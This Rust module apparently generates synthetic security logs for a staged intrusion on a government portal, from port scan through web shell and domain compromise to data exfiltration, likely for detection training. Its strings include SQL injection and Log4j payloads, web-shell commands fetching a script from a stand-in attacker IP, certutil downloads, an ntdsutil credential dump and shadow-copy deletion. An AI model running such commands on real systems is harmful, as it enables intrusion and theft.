//! What happens in the last 24 hours, as lines among the ordinary ones. The plot is told in `story.md`; this file only says
//! which device writes what, and when.

use std::net::{IpAddr, Ipv4Addr};

use event::Micros;

use super::{
    Estate, Line,
    civil::{HOUR, MINUTE, SECOND},
    estate::{Host, SOURCE_ANTIMALWARE, SOURCE_FIREWALL, SOURCE_SYSLOG, SOURCE_WINDOWS, System},
    habits,
    lines::{
        PEOPLE, antimalware,
        fortigate::{self, Firewall, Traffic},
        linux::{self, Proof},
        mail,
        web::{self, Request},
        windows::{self, Logon, Server},
    },
    random::Random,
};

const SCANNER: IpAddr = v4(198, 51, 100, 77);
const GUESSER: IpAddr = v4(203, 0, 113, 45);
const INTRUDER: IpAddr = v4(198, 51, 100, 23);
const FOREIGN: IpAddr = v4(192, 0, 2, 88);
const DROP_ZONE: IpAddr = v4(203, 0, 113, 99);
const COUNTRY: &str = "Netherlands";

const fn v4(a: u8, b: u8, c: u8, d: u8) -> IpAddr {
    IpAddr::V4(Ipv4Addr::new(a, b, c, d))
}

/// Who takes part, and the lines so far.
struct Stage<'a> {
    portal: (&'a System, &'a Host),
    database: &'a Host,
    firewall: &'a Host,
    controllers: [&'a Host; 2],
    console: &'a Host,
    mail: (&'a System, &'a Host),
    archive: (&'a System, &'a Host),
    estate: &'a Estate,
    now: Micros,
    random: Random,
    lines: Vec<Line>,
}

/// The lines of the story, in order of time.
pub fn lines(estate: &Estate, seed: u64, now: Micros) -> Vec<Line> {
    let host = |system: &str, i: usize| estate.system(system).and_then(|s| Some((s, s.hosts.get(i)?)));
    let (
        Some(portal),
        Some((_, database)),
        Some((_, firewall)),
        Some((_, dc1)),
        Some((_, dc2)),
        Some((_, console)),
        Some(mail),
        Some(archive),
    ) = (
        host("dvc", 0),
        host("dvc", 3),
        host("ttdl", 0),
        host("ad", 0),
        host("ad", 1),
        host("may-tram", 0),
        host("thu", 0),
        host("luu-tru", 0),
    )
    else {
        return Vec::new();
    };
    let mut stage = Stage {
        portal,
        database,
        firewall,
        controllers: [dc1, dc2],
        console,
        mail,
        archive,
        estate,
        now,
        random: Random::of(&[seed, 0x57]),
        lines: Vec::new(),
    };
    stage.port_scan();
    stage.ssh_guessing();
    stage.web_attack();
    stage.web_shell();
    stage.spread();
    stage.foreign_vpn();
    stage.domain();
    stage.pcs();
    stage.away_with_data();
    stage.harmless();
    stage.lines.sort_by_key(|line| line.received);
    stage.lines
}

impl Stage<'_> {
    fn before(&self, hours: i64, minutes: i64) -> Micros {
        self.now - hours * HOUR - minutes * MINUTE
    }

    fn push(&mut self, at: Micros, source: &'static str, sender: IpAddr, write: impl FnOnce(&mut String)) {
        let mut text = String::new();
        write(&mut text);
        self.lines.push(Line { received: at, source, sender, text });
    }

    fn firewall_line(&mut self, at: Micros, write: impl FnOnce(&mut String, Firewall<'_>)) {
        let (name, address) = (self.firewall.name.clone(), self.firewall.address);
        self.push(at, SOURCE_FIREWALL, address, |out| write(out, Firewall { at, name: &name }));
    }

    fn windows_line(&mut self, at: Micros, controller: usize, write: impl FnOnce(&mut String, Server<'_>)) {
        let (name, address) = (self.controllers[controller].name.clone(), self.controllers[controller].address);
        let record = 9_100_000 + self.lines.len() as u64;
        self.push(at, SOURCE_WINDOWS, address, |out| write(out, Server { at, name: &name, record }));
    }

    fn linux_line(&mut self, at: Micros, of: (&System, &Host), write: impl FnOnce(&mut String, linux::From<'_>)) {
        let from = habits::from(of.0, of.1, at);
        self.push(at, SOURCE_SYSLOG, of.1.address, |out| write(out, from));
    }

    fn web_line(&mut self, at: Micros, method: &str, target: &str, status: u16, bytes: u64, agent: &str) {
        let (system, host) = self.portal;
        let from = linux::From { header: linux::Header::Bsd, ..habits::from(system, host, at) };
        let request = Request { client: INTRUDER, method, target, status, bytes, referrer: "-", agent };
        self.push(at, SOURCE_SYSLOG, host.address, |out| web::nginx_access(out, from, request));
    }

    fn inbound(&self, source: IpAddr, port: u64, service: &'static str) -> Traffic<'static> {
        Traffic {
            source,
            source_port: 40_000 + port % 20_000,
            source_country: COUNTRY,
            target: self.portal.1.address,
            target_port: port,
            target_country: "Reserved",
            service,
            is_inbound: true,
            session: 77_000_000 + self.lines.len() as u64,
            sent: 0,
            received: 0,
            seconds: 0,
        }
    }

    /// Twenty hours ago somebody knocks at every door.
    fn port_scan(&mut self) {
        let begin = self.before(20, 0);
        for i in 0..420u64 {
            let port = 20 + i * 17 % 9_000;
            let traffic = self.inbound(SCANNER, port, "tcp/scan");
            self.firewall_line(begin + i as Micros * SECOND / 2, |out, from| fortigate::denied(out, from, traffic));
        }
    }

    /// Nineteen hours ago passwords are guessed at the portal's server, and one is right.
    fn ssh_guessing(&mut self) {
        let begin = self.before(19, 0);
        let names = ["root", "admin", "oracle", "test", "ubuntu", "postgres", "deploy", "quantri", "user", "ftpuser"];
        for i in 0..310u64 {
            let user = names[(i % 10) as usize];
            let is_known = matches!(user, "root" | "deploy" | "quantri");
            let at = begin + i as Micros * 5 * SECOND;
            self.linux_line(at, self.portal, |out, from| {
                linux::ssh_failed(out, from, 31_000 + i, user, is_known, GUESSER, 42_000 + i);
            });
        }
        let at = begin + 311 * 5 * SECOND;
        self.linux_line(at, self.portal, |out, from| {
            linux::ssh_accepted(out, from, 31_400, "deploy", GUESSER, 45_210, Proof::Password);
        });
        self.linux_line(at + SECOND, self.portal, |out, from| linux::session(out, from, 31_400, "sshd", "deploy", true));
        self.linux_line(at + 40 * SECOND, self.portal, |out, from| {
            linux::sudo(out, from, 31_466, "deploy", "/home/deploy", "/usr/bin/id");
        });
        self.linux_line(at + 9 * MINUTE, self.portal, |out, from| {
            linux::ssh_disconnected(out, from, 31_400, "deploy", GUESSER, 45_210);
        });
    }

    /// Fourteen hours ago the portal is tried with what scanners carry.
    fn web_attack(&mut self) {
        const TRIES: [(&str, u16, &str); 10] = [
            (
                "/tra-cuu-ho-so?ma=1%27%20UNION%20SELECT%20null,username,password%20FROM%20users--",
                500,
                "sqlmap/1.8.4#stable (https://sqlmap.org)",
            ),
            ("/tra-cuu-ho-so?ma=1%20AND%20SLEEP(5)", 200, "sqlmap/1.8.4#stable (https://sqlmap.org)"),
            ("/tai-ve?tep=../../../../etc/passwd", 403, "Mozilla/5.0 (compatible; Nikto/2.5.0)"),
            ("/tai-ve?tep=..%2f..%2f..%2f..%2fetc%2fshadow", 403, "Mozilla/5.0 (compatible; Nikto/2.5.0)"),
            ("/?x=${jndi:ldap://198.51.100.23:1389/a}", 400, "${jndi:ldap://198.51.100.23:1389/a}"),
            ("/.git/config", 404, "Mozilla/5.0 (compatible; Nikto/2.5.0)"),
            ("/.env", 404, "Mozilla/5.0 (compatible; Nikto/2.5.0)"),
            ("/wp-login.php", 404, "Mozilla/5.0 (compatible; Nikto/2.5.0)"),
            ("/tim-kiem?q=%3Cscript%3Ealert(1)%3C/script%3E", 200, "Mozilla/5.0 (compatible; Nikto/2.5.0)"),
            ("/phpmyadmin/index.php", 404, "Mozilla/5.0 (compatible; Nikto/2.5.0)"),
        ];
        let begin = self.before(14, 0);
        for i in 0..260usize {
            let (target, status, agent) = TRIES[i % TRIES.len()];
            self.web_line(begin + i as Micros * 4 * SECOND, "GET", target, status, 540 + i as u64, agent);
        }
        for (i, (id, name, url)) in [
            (15621, "SQL.Injection", "/tra-cuu-ho-so?ma=1'"),
            (51006, "Apache.Log4j.Error.Log.Remote.Code.Execution", "/?x=${jndi:ldap://"),
            (12075, "Web.Server.Directory.Traversal", "/tai-ve?tep=../../"),
        ]
        .into_iter()
        .enumerate()
        {
            let traffic = self.inbound(INTRUDER, 443, "HTTPS");
            let at = begin + (i as Micros + 1) * 3 * MINUTE;
            self.firewall_line(at, |out, from| fortigate::attack(out, from, traffic, id, name, "detected", url));
        }
    }

    /// Half an hour later a file lies where only pictures should, and it obeys.
    fn web_shell(&mut self) {
        const AGENT: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0";
        let begin = self.before(13, 25);
        self.web_line(begin, "POST", "/ho-so/tai-len", 200, 312, AGENT);
        for (i, command) in [
            "id",
            "uname%20-a",
            "cat%20/etc/passwd",
            "whoami",
            "ls%20-la%20/srv/dvc",
            "wget%20http://198.51.100.23/k.sh%20-O%20/tmp/k.sh",
        ]
        .into_iter()
        .enumerate()
        {
            let target = format!("/uploads/ho-so/2026/anh-the.php?cmd={command}");
            self.web_line(begin + (i as Micros + 1) * 35 * SECOND, "GET", &target, 200, 90 + 40 * i as u64, AGENT);
        }
        let (system, host) = self.portal;
        let at = begin + 5 * MINUTE;
        let from = linux::From { header: linux::Header::Bsd, ..habits::from(system, host, at) };
        let request = Request {
            client: INTRUDER,
            method: "GET",
            target: "/uploads/ho-so/2026/anh-the.php",
            status: 200,
            bytes: 0,
            referrer: "-",
            agent: AGENT,
        };
        let what = "FastCGI sent in stderr: \"PHP message: PHP Warning:  shell_exec(): Unable to execute 'nc'\" while reading response header from upstream";
        self.push(at, SOURCE_SYSLOG, host.address, |out| web::nginx_error(out, from, 812, 990_117, what, request));
        for (i, command) in
            ["/bin/bash /tmp/k.sh", "/usr/sbin/useradd -m -s /bin/bash svc_backup", "/usr/sbin/usermod -aG sudo svc_backup"]
                .into_iter()
                .enumerate()
        {
            let at = begin + (7 + i as Micros) * MINUTE;
            self.linux_line(at, self.portal, |out, from| linux::sudo(out, from, 33_010 + i as u64, "www-data", "/tmp", command));
        }
        let at = begin + 8 * MINUTE + 2 * SECOND;
        self.linux_line(at, self.portal, |out, from| linux::useradd(out, from, 33_020, "svc_backup", 1013));
        self.linux_line(at + MINUTE, self.portal, |out, from| linux::usermod_group(out, from, 33_021, "svc_backup", "sudo"));
        let database = (self.portal.0, self.database);
        self.linux_line(at + 20 * MINUTE, database, |out, from| {
            linux::ssh_accepted(out, from, 21_877, "deploy", v4(10, 10, 1, 11), 51_990, Proof::Key);
        });
        self.linux_line(at + 22 * MINUTE, database, |out, from| {
            linux::sudo(out, from, 21_901, "deploy", "/home/deploy", "/usr/bin/pg_dump -Fc dvc -f /var/tmp/.cache.bin");
        });
    }

    /// Eleven hours ago the portal's server tries one password at many officials' accounts.
    fn spread(&mut self) {
        let begin = self.before(11, 0);
        for i in 0..44usize {
            let user = PEOPLE.get(i).map_or_else(|| format!("vanthu{i:02}"), |name| (*name).to_owned());
            let logon = Logon { user: &user, kind: 3, address: "10.10.1.11", workstation: "DVC-WEB01" };
            self.windows_line(begin + i as Micros * 9 * SECOND, 0, |out, server| windows::logon_failed(out, server, logon, true));
        }
        let logon = Logon { user: "tthi.huong", kind: 3, address: "10.10.1.11", workstation: "DVC-WEB01" };
        self.windows_line(begin + 420 * SECOND, 0, |out, server| windows::logon(out, server, logon));
    }

    /// Ten hours ago that account comes in from abroad.
    fn foreign_vpn(&mut self) {
        let begin = self.before(10, 0);
        let traffic = self.inbound(FOREIGN, 10_443, "SSL-VPN");
        self.firewall_line(begin, |out, from| {
            fortigate::accepted(out, from, Traffic { sent: 5_200, received: 9_100, seconds: 4, ..traffic })
        });
        self.firewall_line(begin + 3 * SECOND, |out, from| {
            fortigate::vpn(out, from, true, "tthi.huong", FOREIGN, v4(10, 212, 134, 61), 1_733_208);
        });
        self.firewall_line(begin + 4 * HOUR, |out, from| {
            fortigate::vpn(out, from, false, "tthi.huong", FOREIGN, v4(10, 212, 134, 61), 1_733_208);
        });
    }

    /// Half an hour later it works on the domain controllers, makes itself a helper and wipes its traces.
    fn domain(&mut self) {
        let begin = self.before(9, 30);
        let by = "tthi.huong";
        let desk = Logon { user: by, kind: 10, address: "10.212.134.61", workstation: "DESKTOP-7Q2K" };
        self.windows_line(begin, 1, |out, server| windows::logon(out, server, desk));
        const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
        const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
        for (i, (parent, image, command)) in [
            (CMD, "C:\\Windows\\System32\\whoami.exe", "whoami /all"),
            (CMD, "C:\\Windows\\System32\\net.exe", "net group \"Domain Admins\" /domain"),
            (CMD, "C:\\Windows\\System32\\nltest.exe", "nltest /domain_trusts"),
            (CMD, POWERSHELL, "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"),
            (POWERSHELL, "C:\\Windows\\System32\\certutil.exe", "certutil.exe -urlcache -split -f http://198.51.100.23/m.exe C:\\Windows\\Temp\\m.exe"),
            (CMD, "C:\\Windows\\System32\\ntdsutil.exe", "ntdsutil \"ac i ntds\" \"ifm\" \"create full c:\\windows\\temp\\n\" q q"),
            (CMD, "C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
        ]
        .into_iter()
        .enumerate()
        {
            let at = begin + (i as Micros + 1) * 2 * MINUTE;
            self.windows_line(at, 1, |out, server| windows::process(out, server, by, parent, image, command));
        }
        let at = begin + 16 * MINUTE;
        self.windows_line(at, 1, |out, server| windows::user_created(out, server, by, "hotro_it"));
        self.windows_line(at + 20 * SECOND, 1, |out, server| {
            windows::group_member_added(out, server, by, "hotro_it", "Domain Admins")
        });
        self.windows_line(at + 3 * MINUTE, 1, |out, server| {
            windows::service_installed(out, server, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe");
        });
        self.windows_line(at + 14 * MINUTE, 1, |out, server| windows::log_cleared(out, server, "hotro_it"));
    }

    /// From seven to three hours ago the same malware turns up on PCs of three communes; on some it stays.
    fn pcs(&mut self) {
        let begin = self.before(7, 0);
        let (console, address) = (self.console.name.clone(), self.console.address);
        let units: Vec<_> = self.estate.units.iter().rev().take(3).cloned().collect();
        for i in 0..14usize {
            let unit = &units[i % units.len()];
            let at = begin + i as Micros * 17 * MINUTE;
            let host = format!("PC-{}-{:02}", unit.id.to_ascii_uppercase(), 3 + i);
            let ip = format!("{}.{}.{}.{}", unit.net[0], unit.net[1], unit.net[2], 13 + i);
            let finding = antimalware::Finding {
                host: &host,
                address: &ip,
                group: &unit.name,
                user: "NGOCRINH\\vanthu",
                file: "C:\\Users\\vanthu\\Downloads\\Thong bao khan.scr",
                name: "Trojan-Ransom.Win32.Encoder.demo",
                hash: "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f",
            };
            self.push(at, SOURCE_ANTIMALWARE, address, |out| antimalware::found(out, at, &console, finding));
            let end = at + 2 * SECOND;
            self.push(end, SOURCE_ANTIMALWARE, address, |out| {
                if i % 4 == 3 {
                    antimalware::not_cured(out, end, &console, finding);
                } else {
                    antimalware::deleted(out, end, &console, finding);
                }
            });
        }
    }

    /// Two hours ago the portal's database server sends more abroad than it ever did.
    fn away_with_data(&mut self) {
        let begin = self.before(2, 0);
        for i in 0..6u64 {
            let traffic = Traffic {
                source: self.database.address,
                source_port: 50_100 + i,
                source_country: "Reserved",
                target: DROP_ZONE,
                target_port: 443,
                target_country: COUNTRY,
                service: "HTTPS",
                is_inbound: false,
                session: 78_000_000 + i,
                sent: 1_900_000_000 + i * 7_000_000,
                received: 2_400_000,
                seconds: 540,
            };
            self.firewall_line(begin + i as Micros * 10 * MINUTE, |out, from| fortigate::accepted(out, from, traffic));
        }
    }

    /// What looks like trouble and is none.
    fn harmless(&mut self) {
        let morning = self.before(6, 0);
        for i in 0..3u64 {
            self.linux_line(morning + i as Micros * 4 * SECOND, self.archive, |out, from| {
                linux::ssh_failed(out, from, 1_200 + i, "quantri", true, v4(10, 10, 250, 12), 51_000 + i);
            });
        }
        self.linux_line(morning + 20 * SECOND, self.archive, |out, from| {
            linux::ssh_accepted(out, from, 1_209, "quantri", v4(10, 10, 250, 12), 51_009, Proof::Password);
        });
        // An official's telephone with an old password asks for mail every minute.
        let mailbox = self.mail.1.address;
        for i in 0..40u64 {
            let at = self.before(5, 0) + i as Micros * MINUTE;
            let desk = habits::desk(&mut self.random);
            self.linux_line(at, self.mail, |out, from| {
                mail::imap_failed(out, from, 7_000 + i, "pthi.lan@ngocrinh.example.vn", desk, mailbox);
            });
        }
        // The province's own scanner makes its monthly round.
        for i in 0..120u64 {
            let at = self.before(4, 0) + i as Micros * SECOND;
            self.linux_line(at, self.archive, |out, from| linux::ssh_closed(out, from, 2_000 + i, v4(10, 10, 20, 9), 38_000 + i));
        }
    }
}
